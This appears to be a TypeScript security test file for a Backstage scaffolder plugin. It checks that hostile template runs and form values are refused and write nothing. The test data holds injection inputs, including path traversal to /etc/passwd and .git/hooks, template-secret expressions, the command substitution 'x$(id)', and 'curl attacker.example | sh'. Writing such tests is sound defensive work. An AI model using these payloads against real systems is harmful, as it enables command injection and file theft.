/**
 * Runway's scaffolder actions (plugins/scaffolder-backend-module-runway)
 * through the scaffolder's routes: dry runs of inline templates that call
 * each Runway action (path 3a), tasks of the shipped templates with hostile
 * form values (refused by the form schema, or by the action inside the
 * task: runway:template:validate, aws:cloudformation:deploy on a stack that
 * is not Runway's (path 3b), runway:docs:checkout, runway:adr:create on
 * paths out of docs/ (path 6c)), and other people's tasks (path 9a).
 * Nothing written: no repository, no stack change, no branch, no entity.
 */
import type { Caller } from '../client';
import { getJson } from '../client';
import { stacksState } from '../aws';
import { refsOf, repositories } from '../gitRepos';
import { HOSTILE_REPO, VICTIM_REPO } from '../hostile';
import type { AbuseCase } from '../runner';
import { entity, finishedTask, type AbuseContext } from '../setup';

const api = (p: string) => `/api/scaffolder${p}`;

/** What a template run could write: repositories, their refs, stacks. */
async function written(): Promise<string> {
  return [
    `repositories: ${repositories().join(' ')}`,
    `hostile: ${refsOf(HOSTILE_REPO)}`,
    `victim: ${refsOf(VICTIM_REPO)}`,
    await stacksState(),
  ].join('\n');
}

const inline = (action: string, input: Record<string, unknown>) => ({
  template: {
    apiVersion: 'scaffolder.backstage.io/v1beta3',
    kind: 'Template',
    metadata: { name: 'abuse-inline' },
    spec: {
      owner: 'group:default/team-checkout',
      type: 'service',
      parameters: [],
      steps: [{ id: 'step', name: action, action, input }],
    },
  },
  values: {},
  secrets: {},
  directoryContents: [
    {
      path: 'stack.yaml',
      base64Content: Buffer.from('Resources: {}\n').toString('base64'),
    },
  ],
});

/** The golden path's form, with `values` over sensible defaults. */
const goldenPath = (values: Record<string, unknown>) => ({
  templateRef: 'template:default/microservice',
  values: {
    name: 'abuse-service',
    description: 'A service of the abuse suite',
    owner: 'group:default/team-checkout',
    system: 'system:default/storefront',
    language: 'go',
    ci: 'github-actions',
    tier: '2',
    database: 'none',
    queue: 'none',
    exposure: 'internal',
    ...values,
  },
});

const newAdr = (values: Record<string, unknown>) => ({
  templateRef: 'template:default/new-adr',
  values: {
    component: 'component:default/abuse-adr-git',
    title: 'Use the abuse suite',
    status: 'proposed',
    context: 'Hostile input.',
    decision: 'Refuse it.',
    ...values,
  },
});

const runbook = (values: Record<string, unknown>) => ({
  templateRef: 'template:default/new-runbook-section',
  values: {
    component: 'component:default/checkout-api',
    title: 'AbuseAlert',
    severity: 'info',
    meaning: 'Hostile input.',
    check: 'Nothing.',
    fix: 'Nothing.',
    ...values,
  },
});

/** The task the answer started must fail at `step`, having written nothing. */
const failsAt =
  (step: string, name?: string) =>
  async (answer: { status: number; json: any }) => {
    if (answer.status !== 201) return undefined;
    const task = await finishedTask('developer', answer.json.id);
    if (task.status !== 'failed' || task.failedStep !== step) {
      return `the task ${task.status}${
        task.failedStep ? ` at step ${task.failedStep}` : ''
      }, expected to fail at ${step}`;
    }
    if (name && (await entity(`component:default/${name}`))) {
      return `component:default/${name} was registered`;
    }
    return undefined;
  };

export function scaffolderCases(ctx: AbuseContext): AbuseCase[] {
  const cases: AbuseCase[] = [];
  const add = (
    name: string,
    as: Caller,
    method: 'GET' | 'POST',
    path: string,
    body: unknown,
    expect: number[],
    extra: Partial<AbuseCase> = {},
  ) =>
    cases.push({
      name: `scaffolder actions: ${name}`,
      target: 'scaffolder actions',
      as,
      request: { method, path: api(path), body },
      expect,
      unchanged: written,
      ...extra,
    });

  // dry runs of inline templates: ops only (path 3a)
  const dryRuns: [string, Record<string, unknown>][] = [
    [
      'aws:cloudformation:deploy',
      {
        stackName: ctx.foreignStack,
        region: 'eu-west-1',
        templateFile: 'stack.yaml',
      },
    ],
    [
      'runway:template:validate',
      { name: 'abuse-x', owner: 'group:default/team-checkout' },
    ],
    ['runway:publish:target', { name: 'abuse-x', owner: 'acme' }],
    ['runway:slo:rules', { sloFile: '../../etc/passwd' }],
    ['runway:adr:create', { path: 'repo', location: 'docs/.git', title: 'x' }],
    ['runway:runbook:section', { path: '../../', title: 'x' }],
    ['runway:docs:checkout', { entityRef: 'component:default/payments-api' }],
    ['runway:publish:local', { catalogInfoPath: '/etc/passwd' }],
    [
      'fetch:plain',
      {
        url: `https://github.rehearsal.test/acme/${VICTIM_REPO}/tree/main/docs`,
        targetPath: 'repo/docs',
      },
    ],
  ];
  for (const [action, input] of dryRuns) {
    add(
      `developer dry-runs an inline template calling ${action}`,
      'developer',
      'POST',
      '/v2/dry-run',
      inline(action, input),
      [403],
    );
  }
  add(
    'manager dry-runs an inline aws:cloudformation:deploy',
    'manager',
    'POST',
    '/v2/dry-run',
    inline(...dryRuns[0]),
    [403],
  );
  add(
    'anonymous dry-runs an inline aws:cloudformation:deploy',
    'anonymous',
    'POST',
    '/v2/dry-run',
    inline(...dryRuns[0]),
    [401],
  );
  add(
    'developer dry-runs a 2 MB inline template',
    'developer',
    'POST',
    '/v2/dry-run',
    inline('runway:template:validate', { name: 'x'.repeat(2 * 1024 * 1024) }),
    [403, 413],
  );

  // who may start tasks
  add(
    'anonymous starts the golden path',
    'anonymous',
    'POST',
    '/v2/tasks',
    goldenPath({}),
    [401],
  );
  add(
    'manager starts the golden path',
    'manager',
    'POST',
    '/v2/tasks',
    goldenPath({ name: 'abuse-manager' }),
    [403],
  );
  add(
    'developer starts the Template they tried to register',
    'developer',
    'POST',
    '/v2/tasks',
    { templateRef: 'template:default/abuse-template', values: {} },
    [400, 403, 404],
  );
  add(
    'developer starts a template ref holding a path',
    'developer',
    'POST',
    '/v2/tasks',
    { templateRef: 'template:default/..%2F..%2Fetc', values: {} },
    [400, 403, 404],
  );

  // form values the template's schema refuses
  const schema = (name: string, body: unknown) =>
    add(`developer: ${name}`, 'developer', 'POST', '/v2/tasks', body, [400]);
  schema(
    'template expressions in the description',
    goldenPath({ description: 'x ${{ secrets.GITHUB_TOKEN }}' }),
  );
  schema(
    'YAML in the description',
    goldenPath({ description: 'x\nkind: Template\nmetadata: {}' }),
  );
  schema(
    'a repository owner holding a path',
    goldenPath({ repoOwner: '../../etc' }),
  );
  schema(
    'a language outside the list',
    goldenPath({ language: 'rust; curl attacker.example | sh' }),
  );
  schema('a tier outside the list', goldenPath({ tier: '0' }));
  schema('no name', goldenPath({ name: undefined }));
  schema('an ADR title holding a path', newAdr({ title: '../../.git/config' }));
  schema('an ADR number holding a path', newAdr({ number: '../0001' }));
  schema('an ADR status outside the list', newAdr({ status: 'superseded' }));
  schema(
    'a runbook section title holding a path',
    runbook({ title: '../../etc/passwd' }),
  );
  schema(
    'a runbook severity outside the list',
    runbook({ severity: 'critical' }),
  );

  // values the actions refuse inside the task, before anything is written
  const task = (name: string, body: unknown, step: string, created?: string) =>
    add(`developer: ${name}`, 'developer', 'POST', '/v2/tasks', body, [201], {
      leak: failsAt(step, created),
    });
  task(
    'a service name holding a path',
    goldenPath({ name: '../../etc/passwd' }),
    'validate',
  );
  task(
    "another team's service name (checkout-api)",
    goldenPath({ name: 'checkout-api' }),
    'validate',
  );
  task("Runway's own name", goldenPath({ name: 'runway' }), 'validate');
  task(
    'a service name holding a command',
    goldenPath({ name: 'x$(id)' }),
    'validate',
  );
  task(
    'a user as the owner',
    goldenPath({ name: 'abuse-owner-user', owner: 'user:default/alice.ops' }),
    'validate',
    'abuse-owner-user',
  );
  task(
    'an owner that does not exist',
    goldenPath({
      name: 'abuse-owner-none',
      owner: 'group:default/no-such-team',
    }),
    'validate',
    'abuse-owner-none',
  );
  task(
    'a system holding a path',
    goldenPath({ name: 'abuse-system-path', system: '../../etc' }),
    'validate',
    'abuse-system-path',
  );
  task(
    "the name of another team's CloudFormation stack (aws:cloudformation:deploy)",
    goldenPath({ name: ctx.foreignStack }),
    'infra',
    ctx.foreignStack,
  );
  task('an ADR into docs/.git/hooks (runway:adr:create)', newAdr({}), 'adr');
  task(
    'an ADR into docs/../../../etc (runway:adr:create)',
    newAdr({ component: 'component:default/abuse-adr-dotdot' }),
    'adr',
  );
  task(
    "an ADR in another team's service (runway:docs:checkout)",
    newAdr({ component: 'component:default/payments-api' }),
    'checkout',
  );
  task(
    'an ADR for an entity ref holding a path',
    newAdr({ component: 'component:default/../../etc' }),
    'checkout',
  );

  // other people's tasks (path 9a)
  const id = ctx.developerTaskId;
  const noTask = (a: { text: string }) =>
    a.text.includes('AbuseSuiteOwnerCheck')
      ? "the developer's form input shown"
      : undefined;
  add(
    "manager reads the developer's task",
    'manager',
    'GET',
    `/v2/tasks/${id}`,
    undefined,
    [403, 404],
    { leak: noTask },
  );
  add(
    "manager reads the developer's task log",
    'manager',
    'GET',
    `/v2/tasks/${id}/events`,
    undefined,
    [403, 404],
    { leak: noTask },
  );
  add(
    "manager cancels the developer's task",
    'manager',
    'POST',
    `/v2/tasks/${id}/cancel`,
    undefined,
    [403, 404],
    {
      unchanged: async () =>
        (await getJson('developer', api(`/v2/tasks/${id}`))).status,
    },
  );
  add(
    "manager lists every user's tasks",
    'manager',
    'GET',
    '/v2/tasks',
    undefined,
    [200, 403],
    {
      leak: a =>
        JSON.stringify(a.json ?? '').includes(id)
          ? "the developer's task listed"
          : undefined,
    },
  );
  add(
    "anonymous reads the developer's task",
    'anonymous',
    'GET',
    `/v2/tasks/${id}`,
    undefined,
    [401],
    { leak: noTask },
  );
  add(
    "a forged ops token reads the developer's task log",
    'unsigned-token',
    'GET',
    `/v2/tasks/${id}/events`,
    undefined,
    [401],
    { leak: noTask },
  );
  return cases;
}
